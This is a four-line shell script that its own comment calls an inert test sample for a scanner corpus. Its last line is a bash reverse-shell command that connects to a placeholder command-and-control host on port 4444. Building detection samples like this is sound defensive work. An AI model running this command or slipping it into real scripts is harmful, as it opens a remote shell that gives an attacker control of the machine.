# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1
